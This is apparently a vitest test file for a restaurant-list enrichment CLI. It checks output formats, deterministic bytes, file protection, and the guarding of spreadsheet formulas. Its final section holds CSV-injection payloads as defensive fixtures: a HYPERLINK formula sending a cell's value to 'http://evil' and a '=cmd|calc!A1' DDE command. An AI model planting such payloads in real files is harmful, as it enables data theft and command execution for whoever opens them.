import { chmodSync, existsSync, mkdirSync, readFileSync, statSync } from 'node:fs';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { beforeEach, describe, expect, it } from 'vitest';
import type { PageDocument } from '../../../src/output/html/document.ts';
import { table, useLists } from '../../helpers/enrich.ts';
import { STANDALONE } from '../../helpers/process.ts';
import { replaceFs } from '../../helpers/replace-fs.ts';
import { HAS_PYTHON, parquetRows, workbookRows } from '../../helpers/table-files.ts';
import { textRow, workbookParts, zip } from '../../helpers/workbook.ts';

const { service, path, read, write, enrich } = useLists();
const ALL = ['csv', 'tsv', 'ndjson', 'geojson', 'xlsx', 'parquet', 'html'];
const LIST = 'name,city\nPlace 3,Testville\n=1+1,Testville\nTwin,Testville\nnothing,Testville\n';
beforeEach(() => {
  write(
    'in.csv',
    'Nr;Name;City;Zip;Zip;Sales\n1;Place 3;Testville;04109;x;12.50\n2;=1+1;Testville;10115;;719.5\n3;nothing;Testville;;;\n',
  );
});

/** The cells of these columns, with their types. */
const cells = (rows: readonly Record<string, unknown>[], ...columns: string[]) =>
  rows.map((row) => columns.map((column) => row[column]));

/** The data of a page. */
function page(name = 'out.html'): { head: Omit<PageDocument, 'rows'>; rows: PageDocument['rows'] } {
  const parts = [...read(name).matchAll(/<script type="application\/json"[^>]*>([\s\S]*?)<\/script>/g)];
  const [head, rows] = parts.map(([, text = '']) => JSON.parse(text));
  return { head, rows };
}

describe('views', () => {
  it.skipIf(!HAS_PYTHON)('as a workbook have numbers, and formulas as text', async () => {
    const { exit, stdout } = await enrich('in.csv -o out.csv -o out.xlsx --json');
    expect([exit, JSON.parse(stdout)]).toMatchObject([0, { files: ['out.csv', 'out.xlsx'] }]);
    const rows = workbookRows(path('out.xlsx'));
    expect(cells(rows, 'A', 'B', 'D', 'E', 'F', 'G', 'K', 'O', 'P')).toEqual([
      'Nr Name Zip Zip_2 Sales restaurant_status restaurant_name restaurant_lat restaurant_lng'.split(' '),
      [1, 'Place 3', '04109', 'x', 12.5, 'matched', 'Place 3.', 1.5, -3],
      [2, '=1+1', '10115', undefined, 719.5, 'matched', '=1+1', undefined, undefined],
      [3, 'nothing', undefined, undefined, undefined, 'not_found', undefined, undefined, undefined],
    ]);
  });

  it('are added later without a request, in every format', async () => {
    await enrich('in.csv -o done.csv');
    service.sent();
    const done = await enrich('in.csv -o done.csv -o done.parquet -o done.geojson');
    expect([done.exit, done.stdout, service.sent()]).toEqual([0, '', 0]);
    const rows = await parquetRows(path('done.parquet'));
    expect(cells(rows, 'Nr', 'Zip', 'Zip_2', 'restaurant_lat', 'restaurant_name')).toEqual([
      ['1', '04109', 'x', 1.5, 'Place 3.'],
      ['2', '10115', null, null, '=1+1'],
      ['3', null, null, null, null],
    ]);
    const { type, features } = JSON.parse(read('done.geojson'));
    expect([type, features]).toMatchObject([
      'FeatureCollection',
      [
        {
          geometry: { type: 'Point', coordinates: [-3, 1.5] },
          properties: { Nr: '1', Zip: '04109', Zip_2: 'x', restaurant_lat: 1.5, restaurant_error: null },
        },
        { geometry: null, properties: { Name: '=1+1', restaurant_name: '=1+1' } },
        { geometry: null },
      ],
    ]);
  });

  it('keep the geometry and the properties of GeoJSON', async () => {
    const geometry = JSON.parse('{"type":"Polygon","coordinates":[[[0,0],[1,0],[0,1],[0,0]]]}');
    const properties = { name: 'Place 6', 'addr:city': 'Testville', x: { y: 1 } };
    const feature = { type: 'Feature', properties, geometry };
    write('in.geojson', JSON.stringify({ type: 'FeatureCollection', features: [feature] }));
    expect((await enrich('in.geojson -o out.geojson -o out.ndjson -o nested.xlsx')).exit).toBe(0);
    const { features } = JSON.parse(read('out.geojson'));
    expect(features).toMatchObject([
      { geometry, properties: { ...properties, restaurant_name: 'Place 6.', restaurant_lat: 1.5 } },
    ]);
    expect(read('out.ndjson')).toMatch(/^\{"type":"Feature","properties":.*,"restaurant":\{/);
    const flat = await enrich('in.geojson --format csv');
    expect(flat.stdout).toMatch(/^name,addr:city,x\.y,restaurant_status,.*\nPlace 6,Testville,1,matched,/);
    expect(existsSync(path('nested.xlsx'))).toBe(true);
  });

  it('have the columns of all rows before those of the results, in every table', async () => {
    const rows = [
      '{"name":"Place 1","city":"Testville"}',
      '{"city":"Testville","more":{"b":true},"name":"Place 2"}',
    ];
    write('in.ndjson', `${rows.join('\n')}\n`);
    expect((await enrich('in.ndjson -o out.csv -o out.parquet -o out.xlsx')).exit).toBe(0);
    const [first, second] = await parquetRows(path('out.parquet'));
    const names = read('out.csv').split('\n')[0]?.split(',') ?? [];
    expect(names.slice(0, 4)).toEqual(['name', 'city', 'more.b', 'restaurant_status']);
    expect(Object.keys(first ?? {})).toEqual(names);
    expect(cells([first ?? {}, second ?? {}], 'name', 'more.b', 'restaurant_status')).toEqual([
      ['Place 1', null, 'matched'],
      ['Place 2', true, 'matched'],
    ]);
  });

  it('keep every column of a name that is repeated', async () => {
    write('in.csv', 'name,city,,note,note,note_2,\nPlace 1,Testville,a,b,c,d,e\n');
    expect((await enrich('in.csv -o out.parquet -o out.geojson')).exit).toBe(0);
    const own = { column: 'a', note: 'b', note_2: 'c', note_2_2: 'd', column_2: 'e' };
    expect(await parquetRows(path('out.parquet'))).toMatchObject([own]);
    expect(JSON.parse(read('out.geojson')).features[0].properties).toMatchObject(own);
  });

  it('as a page show the restaurants, and the choices for doubtful rows', async () => {
    write('in.csv', 'name,city,note\nPlace 3,Testville,"=a </script> b"\nTwin,Testville,x\nnothing,,y\n');
    const words = 'in.csv -o out.csv -o out.html --city Testville --fields standard --add tel=phone';
    expect((await enrich(words)).exit).toBe(0);
    const { head, rows } = page();
    expect(head).toMatchObject({ kind: 'Enriched list', heading: 'in.csv' });
    expect(head.notes).toEqual(['3 rows', '1 matched, 1 ambiguous, 1 not found, 0 errors']);
    expect(rows.map((row) => row.cells)).toEqual([
      ['Place 3', 'Testville', 'matched', 'Place 3.', 'A', 'a, b', '3 "Main", St'],
      ['Twin', 'Testville', 'ambiguous', 'Twin', null, null, null],
      ['nothing', 'Testville', 'not_found', null, null, null, null],
    ]);
    expect(rows.map((row) => row.point)).toEqual([[1.5, -3], undefined, undefined]);
    const details = new Map(rows[0]?.details);
    expect(details.get('In the list')).toEqual({
      pairs: [
        ['name', 'Place 3'],
        ['city', 'Testville'],
        ['note', '=a </script> b'],
      ],
    });
    expect(details.get('Details')).toMatchObject({ pairs: expect.arrayContaining([['Grade', 'A']]) });
    expect(rows.map((row) => row.review?.choices.map(({ id }) => id))).toEqual([
      undefined,
      ['twin-1', 'twin-2'],
      undefined,
    ]);
    const stdin = 'row,decision\n2,never\n';
    expect(await service.run(['review', 'out.csv', '--apply', '-'], { cwd: path(''), stdin })).toMatchObject({
      exit: 0,
    });
    const [, twin] = page().rows;
    expect([twin?.cells[2], twin?.review]).toEqual(['ambiguous', undefined]);
  });

  it('have the same bytes for the same answers, and stay as they are', async () => {
    write('in.csv', LIST);
    const outputs = ALL.map((format) => `-o out.${format}`).join(' ');
    // With a clock, all runs are in this process: another runtime compresses a workbook to other bytes.
    const now = Date.now;
    await enrich(`in.csv ${outputs} --fields basic`, { now });
    const before = ALL.map((format) => readFileSync(path(`out.${format}`)));
    const times = ALL.map((format) => statSync(path(`out.${format}`)).mtimeMs);
    service.sent();
    expect((await enrich(`in.csv ${outputs} --fields basic`, { now })).exit).toBe(0);
    expect(ALL.map((format) => statSync(path(`out.${format}`)).mtimeMs)).toEqual(times);
    // Also in another order, from a copy of the answers, on another day.
    write('sub.answers.ndjson', read('out.answers.ndjson'));
    const others = ALL.toReversed().map((format) => `-o sub.${format}`);
    const later = () => Date.now() + 86_400_000;
    expect((await enrich(`in.csv ${others.join(' ')} --fields basic`, { now: later })).exit).toBe(0);
    const copies = ALL.map((format) => readFileSync(path(`sub.${format}`)));
    expect(copies.map((copy, index) => copy.equals(before[index] as Buffer))).toEqual(ALL.map(() => true));
    expect(service.sent()).toBe(0);
  });

  it('have the same bytes on another day, also if nothing was answered', async () => {
    write('in.csv', 'name,city\n,Testville\nNopa,\n');
    const written = async (name: string, now: () => number) => {
      const outputs = ALL.map((format) => `-o ${name}.${format}`).join(' ');
      expect((await enrich(`in.csv ${outputs}`, { now })).exit).toBe(0);
      return ALL.map((format) => readFileSync(path(`${name}.${format}`)).toString('latin1'));
    };
    const today = await written('a', Date.now);
    expect(await written('b', () => Date.now() + 86_400_000)).toEqual(today);
    expect(service.sent()).toBe(0);
  });

  it('keep their mode, and are private only if you make them so', async () => {
    await enrich('in.csv -o out.csv -o out.xlsx');
    chmodSync(path('out.csv'), 0o600);
    await enrich('in.csv -o out.csv -o out.xlsx --fields basic');
    expect(['out.csv', 'out.xlsx'].map((name) => statSync(path(name)).mode & 0o777)).toEqual([0o600, 0o644]);
  });

  it.skipIf(STANDALONE)('that cannot be put in place keep the answers', async () => {
    await enrich('in.csv -o out.csv');
    replaceFs('renameSync', () => () => {
      throw Object.assign(new Error(), { code: 'EIO' });
    });
    const { exit, stderr } = await enrich('in.csv -o out.csv --prefix r_');
    const hint = 'restaurant enrich in.csv --prefix r_ -o <file> --answers out.answers.ndjson';
    expect([exit, stderr]).toEqual([
      9,
      expect.stringContaining(`hint: the answers are kept; write another file: ${hint}\n`),
    ]);
  });

  it('name the option again whose file is a folder', async () => {
    mkdirSync(path('sub.xlsx'));
    const { exit, stderr } = await enrich('in.csv -o new.csv -o sub.xlsx');
    expect(exit).toBe(9);
    expect(stderr).toContain(
      `hint: name a file in it: restaurant enrich in.csv -o new.csv -o ${path('sub.xlsx')}/out.csv`,
    );
  });

  it('are shown with --open, also if no page is among them', async () => {
    const { exit, stdout } = await enrich('in.csv -o out.csv --open --no-input');
    expect(exit).toBe(0);
    expect(readFileSync(stdout.trim(), 'utf8')).toContain('<h1 dir="auto">in.csv</h1>');
    expect((await enrich('in.csv --open')).stderr).toContain('--open needs a file of rows');
  });
});

describe('a file that another program or a person has written', () => {
  it.each(ALL)('is not replaced, and nothing is sent: .%s', async (format) => {
    write('in.csv', LIST);
    write(`mine.${format}`, 'mine');
    const { exit, stderr } = await enrich(`in.csv -o out.csv -o mine.${format}`);
    expect([exit, stderr]).toEqual([2, expect.stringContaining(`error: mine.${format} exists\n`)]);
    expect([read(`mine.${format}`), existsSync(path('out.csv')), service.sent()]).toEqual(['mine', false, 0]);
    expect((await enrich(`in.csv -o out.csv -o mine.${format} --force`)).exit).toBe(0);
    expect(read(`mine.${format}`)).not.toBe('mine');
  });

  it.each(ALL)('is not replaced if it is a view that was edited: .%s', async (format) => {
    write('in.csv', LIST);
    await enrich(`in.csv -o out.csv -o mine.${format}`);
    service.sent();
    write(`mine.${format}`, Buffer.concat([readFileSync(path(`mine.${format}`)), Buffer.from(' ')]));
    const edited = readFileSync(path(`mine.${format}`));
    const { exit, stderr } = await enrich(`in.csv -o out.csv -o mine.${format} --older 0s`);
    expect([exit, service.sent()]).toEqual([2, 0]);
    expect(stderr).toContain(`error: mine.${format} was changed by hand\n`);
    expect(readFileSync(path(`mine.${format}`)).equals(edited)).toBe(true);
  });

  it('is not replaced if it was edited while the run was asking', async () => {
    await enrich('in.csv -o out.csv');
    const before = service.sandbox.requests.length;
    const now = () => {
      if (service.sandbox.requests.length > before) write('out.csv', 'edited');
      return Date.now();
    };
    const { exit, stderr } = await enrich('in.csv -o out.csv --older 0s', { now });
    expect([exit, read('out.csv')]).toEqual([2, 'edited']);
    expect(stderr).toContain('error: out.csv was changed by hand\n');
    expect((await enrich('in.csv -o out.csv --force --json')).stdout).toContain('"requests":0');
  });
});

const FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")';
const HEADER = '=cmd|calc!A1';
const TEXTS = { name: 'Place 3', city: 'Testville', note: FORMULA, [HEADER]: '+1 (415) 555-0100' };
const rows = [Object.keys(TEXTS), Object.values(TEXTS)];
/** The same list in every format; in those with plain text, the formula is inert. */
const LISTS: Readonly<Record<string, () => string | Buffer>> = {
  'in.csv': () =>
    rows.map((row) => `"${row.map((cell) => cell.replaceAll('"', '""')).join('","')}"\n`).join(''),
  'in.tsv': () =>
    rows.map((row) => `"${row.map((cell) => cell.replaceAll('"', '""')).join('"\t"')}"\n`).join(''),
  'in.ndjson': () => `${JSON.stringify(TEXTS)}\n`,
  'in.geojson': () =>
    JSON.stringify({
      type: 'FeatureCollection',
      features: [{ type: 'Feature', properties: TEXTS, geometry: null }],
    }),
  'in.parquet': () => {
    const columnData = Object.entries(TEXTS).map(([name, text]) => ({ name, data: [text] }));
    return Buffer.from(parquetWriteBuffer({ columnData }));
  },
  'in.xlsx': () => zip(workbookParts({ One: rows.map((row) => textRow(...row)).join('') })),
};

describe('a formula of the list', () => {
  it.each(Object.keys(LISTS))('is guarded where it was inert, headers too: %s', async (name) => {
    write(name, LISTS[name]?.() ?? '');
    const wasText = !['in.csv', 'in.tsv'].includes(name);
    expect((await enrich(`${name} -o out.csv -o out.tsv -o out.ndjson`)).exit).toBe(0);
    for (const [view, delimiter] of [
      ['out.csv', ','],
      ['out.tsv', '\t'],
    ] as const) {
      const [row] = table(read(view), delimiter);
      const [note, header] = wasText
        ? [`'${FORMULA.replace(',"x"', ',"x"')}`, `'${HEADER}`]
        : [FORMULA, HEADER];
      expect([row?.note, row?.[header]]).toEqual([note, '+1 (415) 555-0100']);
    }
    const { note, properties } = JSON.parse(read('out.ndjson'));
    expect(note ?? properties.note).toBe(FORMULA);
    await enrich(`${name} -o raw.csv --raw-csv`);
    expect(table(read('raw.csv'))[0]?.[HEADER]).toBe('+1 (415) 555-0100');
  });
});
